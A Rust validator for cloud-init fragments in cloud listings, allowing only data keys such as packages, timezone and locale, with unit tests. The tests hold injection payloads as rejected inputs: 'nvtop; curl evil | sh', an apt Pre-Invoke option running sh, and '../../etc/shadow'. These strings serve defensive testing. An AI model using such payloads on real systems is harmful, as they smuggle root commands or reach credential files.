//! What a listing's cloud-init fragment may say. The fragment runs as root in every tenant VM
//! launched from the listing, so it is an allowlist, not a blocklist: a few documented
//! cloud-config modules whose values are data (packages from the image's own repositories, the
//! time zone, the locale, a message), each value checked. Commands (`runcmd`, `bootcmd`), files
//! (`write_files`), package sources (`apt`, `yum_repos`, `snap`), extra SSH keys
//! (`ssh_import_id`), mounts and everything else are refused: what a listing needs to run
//! belongs in its image, which review pins by checksum.
//!
//! The schema holds the same list of keys (`listing_versions_cloud_init_guard`); this adds the
//! checks of each value and the sentences.

use serde_json::Value;

/// The keys a fragment may set, in the order the refusal lists them.
pub const ALLOWED_KEYS: &[&str] = &[
    "packages",
    "package_update",
    "package_upgrade",
    "package_reboot_if_required",
    "timezone",
    "locale",
    "final_message",
];

/// At most this many packages.
const MAX_PACKAGES: usize = 200;

/// Checks a fragment (a JSON object) key by key; the error is a sentence naming the key.
pub fn check(fragment: &serde_json::Map<String, Value>) -> Result<(), String> {
    for (key, value) in fragment {
        match key.as_str() {
            "packages" => packages(value)?,
            "package_update" | "package_upgrade" | "package_reboot_if_required" => {
                if !value.is_boolean() {
                    return Err(format!("{key:?} is true or false"));
                }
            }
            "timezone" => {
                let ok = value.as_str().is_some_and(|s| {
                    (1..=64).contains(&s.len())
                        && s.split('/').all(|part| {
                            !part.is_empty()
                                && part
                                    .chars()
                                    .all(|c| c.is_ascii_alphanumeric() || "_+-".contains(c))
                        })
                });
                if !ok {
                    return Err(
                        r#""timezone" is a zone name such as "Europe/Berlin" or "UTC""#.into(),
                    );
                }
            }
            "locale" => {
                let ok = value.as_str().is_some_and(|s| {
                    (2..=32).contains(&s.len())
                        && s.chars()
                            .all(|c| c.is_ascii_alphanumeric() || "_.-@".contains(c))
                });
                if !ok {
                    return Err(r#""locale" is a locale name such as "en_US.UTF-8""#.into());
                }
            }
            "final_message" => {
                let ok = value
                    .as_str()
                    .is_some_and(|s| s.chars().count() <= 500 && !s.chars().any(char::is_control));
                if !ok {
                    return Err(r#""final_message" is one line of at most 500 characters"#.into());
                }
            }
            other => {
                return Err(format!(
                    "{other:?} is not allowed: a listing's cloud-init may set only {} (commands, files and package sources would run as root in every tenant's VM; put them in the image)",
                    ALLOWED_KEYS.join(", ")
                ));
            }
        }
    }
    Ok(())
}

/// Package names as Debian and RPM spell them, optionally pinned (`name=version`).
fn packages(value: &Value) -> Result<(), String> {
    let Some(list) = value.as_array() else {
        return Err(r#""packages" is a list of package names, e.g. ["nvtop", "htop"]"#.into());
    };
    if list.len() > MAX_PACKAGES {
        return Err(format!(
            "\"packages\" lists at most {MAX_PACKAGES} packages"
        ));
    }
    for p in list {
        let name = p.as_str().unwrap_or_default();
        let (base, pin) = name.split_once('=').unwrap_or((name, ""));
        let base_ok = (1..=100).contains(&base.len())
            && base.starts_with(|c: char| c.is_ascii_lowercase() || c.is_ascii_digit())
            && base
                .chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "+.-_".contains(c));
        let pin_ok = !name.contains('=')
            || ((1..=64).contains(&pin.len())
                && pin
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || ".+~:-_".contains(c)));
        if !(base_ok && pin_ok) {
            return Err(format!(
                "{p}: a package is a name such as \"nvtop\" or \"nvtop=3.0.2-1\""
            ));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn checked(v: Value) -> Result<(), String> {
        check(v.as_object().unwrap())
    }

    #[test]
    fn data_modules_pass() {
        checked(json!({
            "packages": ["nvtop", "python3-pip", "libnccl2=2.23.4-1+cuda12.6"],
            "package_update": true,
            "package_upgrade": false,
            "timezone": "America/Argentina/Buenos_Aires",
            "locale": "en_US.UTF-8",
            "final_message": "PyTorch is ready.",
        }))
        .unwrap();
        checked(json!({})).unwrap();
    }

    #[test]
    fn anything_that_runs_or_writes_is_refused_by_name() {
        for key in [
            "runcmd",
            "bootcmd",
            "write_files",
            "apt",
            "yum_repos",
            "snap",
            "ssh_import_id",
            "mounts",
            "ca_certs",
            "power_state",
            "Packages",
        ] {
            let err = checked(json!({ key: [] })).unwrap_err();
            assert!(err.starts_with(&format!("{key:?} is not allowed")), "{err}");
        }
    }

    #[test]
    fn values_are_checked_too() {
        for bad in [
            json!({"packages": "nvtop"}),
            json!({"packages": ["nvtop; curl evil | sh"]}),
            json!({"packages": ["-oAPT::Update::Pre-Invoke::=sh"]}),
            json!({"packages": [["nvtop", "1.0"]]}),
            json!({"package_update": "yes"}),
            json!({"timezone": "../../etc/shadow"}),
            json!({"locale": "en US"}),
            json!({"final_message": "two\nlines"}),
        ] {
            assert!(checked(bad.clone()).is_err(), "{bad}");
        }
    }
}
